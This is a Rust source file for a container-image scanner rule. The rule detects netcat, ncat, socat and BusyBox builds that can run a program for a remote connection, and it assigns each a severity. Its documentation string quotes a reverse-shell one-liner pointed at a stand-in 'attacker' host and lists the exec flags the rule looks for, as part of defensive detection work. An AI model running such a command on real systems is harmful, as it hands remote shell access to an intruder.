//! `exec-capable-netcat`: the image ships a netcat that can hand a shell to
//! whoever connects.

use super::ctx::{Rule, file_finding};
use crate::finding::{Finding, Place, Severity};
use crate::image::Image;
use crate::image::content::Tool;
use crate::params::Params;
use crate::rule::{RuleMeta, Scope};

pub(super) static RULE: Rule = Rule { meta: &META, check };

static META: RuleMeta = RuleMeta::new("exec-capable-netcat", Severity::High, DOCS)
    .title("Netcat that can run a program for the remote side")
    .scopes(&[Scope::Image]);

const DOCS: &str = r#"## What it checks
Files whose contents are a netcat able to execute a program on connect:
netcat-traditional (built with `-e`/`-c`), GNU netcat (`--exec`), Nmap's
ncat (`--exec`, `--sh-exec`, `--lua-exec`), socat (`EXEC:`/`SYSTEM:`), and
BusyBox when its `nc` applet offers `-e PROG` (read from the applet table
and the compressed usage texts inside the binary). Detection is by content,
so a netcat renamed or reached through `/usr/bin/nc -> /etc/alternatives/nc
-> /bin/nc.traditional`, a hard link or a BusyBox link is found; the
finding names the file, the layer that put it there and every name that
reaches it. netcat-openbsd cannot `-e` and is `network-tool`'s.

Severity: high for a netcat, ncat or socat binary; medium for a BusyBox
added by the image's own layers; low for a BusyBox inherited from the base
image (nearly every Alpine and BusyBox image has one).

## Why it matters
`nc -e /bin/sh attacker 4444` is a reverse shell in one command. This is
what Falco's "Netcat Remote Code Execution in Container" rule catches at
run time; with `EXE_LOWER_LAYER` it means the netcat came with the image.
Removing it before deploy removes the easiest post-exploitation step.

## Example
```dockerfile
FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y netcat-traditional   # NOT OK
```

## Use instead
Do not install netcat in runtime images; use a debug sidecar or an
ephemeral container when you need one. If a network check is needed, use
`netcat-openbsd` (no `-e`) or a purpose-built health probe.

## References
- Falco rule "Netcat Remote Code Execution in Container"
- MITRE ATT&CK T1059 (Command and Scripting Interpreter)
"#;

fn check(image: &Image, _: &Params, out: &mut Vec<Finding>) {
    for (path, node) in image.tree.files() {
        let Some(content) = &node.entry.content else {
            continue;
        };
        let facts = &content.facts;
        if !facts.exec_capable {
            continue;
        }
        let Some(tool) = facts.tool else { continue };
        let (severity, what) = match tool {
            Tool::Busybox if image.is_base_layer(node.layer) => (
                Severity::Low,
                "a BusyBox inherited from the base image whose `nc` applet can run a program (`nc -e`)".to_string(),
            ),
            Tool::Busybox => (
                Severity::Medium,
                "a BusyBox whose `nc` applet can run a program (`nc -e`)".to_string(),
            ),
            Tool::Socat => (
                Severity::High,
                "socat, which runs programs for a connection (`EXEC:`, `SYSTEM:`)".to_string(),
            ),
            other => (
                Severity::High,
                format!("{}, which can run a program for whoever connects (`-e`)", other.name()),
            ),
        };
        let mut names = image.tree.names_of(path);
        if tool == Tool::Busybox {
            // Only the `nc` links of a BusyBox matter here.
            names.retain(|n| n.rsplit('/').next() == Some("nc"));
        }
        if let Some(target) = &node.hardlink_of {
            names.push(target.clone());
        }
        names.sort();
        let mut message = format!("`/{path}` is {what}");
        if let Some(owner) = image.packages.owned.get(path) {
            message.push_str(&format!(" (package {})", owner.package));
        }
        if !names.is_empty() {
            let shown: Vec<String> = names.iter().map(|n| format!("/{n}")).collect();
            message.push_str(&format!("; reached as {}", shown.join(", ")));
        }
        let mut f = file_finding(image, &META, severity, path, node, message)
            .fix("remove netcat from the runtime image; use an ephemeral debug container instead");
        for name in names {
            let layer = image.tree.get(&name).map(|n| n.layer);
            f = f.related(Place::Image(
                image.location(layer, Some(&name)).with_note("reached as"),
            ));
        }
        out.push(f);
    }
}
